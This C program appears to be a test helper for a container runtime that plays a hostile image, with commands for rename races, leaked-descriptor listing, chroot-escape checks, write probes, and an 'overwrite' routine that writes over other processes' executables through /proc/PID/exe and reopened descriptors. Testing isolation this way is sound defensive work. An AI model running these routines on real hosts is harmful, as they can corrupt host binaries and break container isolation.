/* What a hostile image brings along: one static program with a command for each attack.
 *
 *   swap A B [C D…]     exchanges pairs of names until it is killed
 *   overwrite           tries to write to the executable of every process that it can see, until it is killed
 *   fds [FILE]          lists its open descriptors: number, type, device number, target
 *   climb               says whether the top of its working directory is its root
 *   stat PATH…          type, device number and file system of each, not following a link at the end
 *   probe PATH…         tries to create, write and remove what is there; says "denied" or "open" of each
 *   pause               waits to be killed */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <unistd.h>

static int swap(char **names, int count)
{
	for (;;)
		for (int i = 0; i + 1 < count; i += 2)
			if (renameat2(AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE) < 0 && errno != ENOENT) {
				perror("renameat2");
				return 1;
			}
}

/* see tells once that the executable of another process could be looked at. */
static void see(int proc, const char *name)
{
	static int seen;
	char target[PATH_MAX];
	ssize_t n = readlinkat(proc, name, target, sizeof(target) - 1);

	if (n <= 0)
		return;
	target[n] = 0;
	if (!seen && strstr(target, "berth")) {
		seen = 1;
		fprintf(stderr, "saw %s\n", target);
	}
}

/* An executable cannot be opened for writing while it runs (ETXTBSY), so a descriptor is kept and tried again. */
static void take(int proc, const char *pid)
{
	static int held[64], next;
	char name[NAME_MAX + 16];

	snprintf(name, sizeof(name), "%s/exe", pid);
	see(proc, name);
	int direct = openat(proc, name, O_WRONLY | O_CLOEXEC);
	if (direct >= 0) {
		if (write(direct, "#!/bin/owned\n", 13) == 13)
			fprintf(stderr, "overwrote %s directly\n", name);
		close(direct);
	}
	int fd = openat(proc, name, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		if (held[next])
			close(held[next]);
		held[next] = fd;
		next = (next + 1) % 64;
	}
	for (int i = 0; i < 64; i++) {
		if (held[i] == 0)
			continue;
		snprintf(name, sizeof(name), "/proc/self/fd/%d", held[i]);
		fd = open(name, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "#!/bin/owned\n", 13) == 13)
			fprintf(stderr, "overwrote what was %s/exe\n", pid);
		close(fd);
	}
}

static int overwrite(void)
{
	char self[32];
	DIR *proc = opendir("/proc");

	snprintf(self, sizeof(self), "%d", getpid());
	if (proc == NULL)
		return 1;
	for (;; rewinddir(proc))
		for (struct dirent *e; (e = readdir(proc)) != NULL;)
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self) != 0)
				take(dirfd(proc), e->d_name);
}

static const char *type_of(mode_t mode)
{
	switch (mode & S_IFMT) {
	case S_IFREG: return "file";
	case S_IFDIR: return "dir";
	case S_IFCHR: return "char";
	case S_IFBLK: return "block";
	case S_IFIFO: return "fifo";
	case S_IFSOCK: return "socket";
	case S_IFLNK: return "link";
	}
	return "other";
}

/* The list is made before the file is opened that it goes to. */
static int fds(const char *file)
{
	static char list[65536];
	size_t n = 0;

	for (int fd = 0; fd < 4096; fd++) {
		char link[32], target[PATH_MAX];
		struct stat st;
		if (fstat(fd, &st) < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t len = readlink(link, target, sizeof(target) - 1);
		target[len < 0 ? 0 : len] = 0;
		n += (size_t)snprintf(list + n, sizeof(list) - n, "%d %s %u:%u %s\n", fd, type_of(st.st_mode),
				      major(st.st_rdev), minor(st.st_rdev), target);
		if (n >= sizeof(list))
			return 1;
	}
	int out = file ? open(file, O_WRONLY | O_CREAT | O_TRUNC, 0666) : 1;
	return write(out, list, n) == (ssize_t)n ? 0 : 1;
}

static int climb(void)
{
	struct stat top, root;

	for (int i = 0; i < 200; i++)
		if (chdir("..") < 0)
			break;
	if (stat(".", &top) < 0 || stat("/", &root) < 0)
		return 1;
	puts(top.st_ino == root.st_ino && top.st_dev == root.st_dev ? "inside" : "OUTSIDE");
	return 0;
}

static int show(char **paths)
{
	for (; *paths; paths++) {
		struct stat st;
		struct statfs fs = { 0 };
		if (lstat(*paths, &st) < 0) {
			printf("%s missing\n", *paths);
			continue;
		}
		int fd = open(*paths, O_PATH | O_NOFOLLOW);
		fstatfs(fd, &fs);
		close(fd);
		printf("%s %s %u:%u fs=%lx\n", *paths, type_of(st.st_mode), major(st.st_rdev), minor(st.st_rdev), (long)fs.f_type);
	}
	return 0;
}

static int opens(const char *path)
{
	struct stat st;
	char name[PATH_MAX];

	if (stat(path, &st) < 0)
		return -1;
	if (!S_ISDIR(st.st_mode)) {
		int fd = open(path, O_WRONLY | O_NONBLOCK);
		if (fd >= 0)
			close(fd);
		return fd >= 0;
	}
	snprintf(name, sizeof(name), "%s/owned", path);
	if (mkdir(name, 0700) == 0) {
		rmdir(name);
		return 1;
	}
	return 0;
}

static int probe(char **paths)
{
	for (; *paths; paths++) {
		int can = opens(*paths);
		printf("%s %s\n", *paths, can < 0 ? "missing" : can ? "open" : "denied");
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "swap") == 0)
		return swap(argv + 2, argc - 2);
	if (strcmp(what, "overwrite") == 0)
		return overwrite();
	if (strcmp(what, "fds") == 0)
		return fds(argv[2]);
	if (strcmp(what, "climb") == 0)
		return climb();
	if (strcmp(what, "stat") == 0)
		return show(argv + 2);
	if (strcmp(what, "probe") == 0)
		return probe(argv + 2);
	if (strcmp(what, "pause") == 0)
		for (;;)
			pause();
	fprintf(stderr, "attack: what is \"%s\"?\n", what);
	return 2;
}
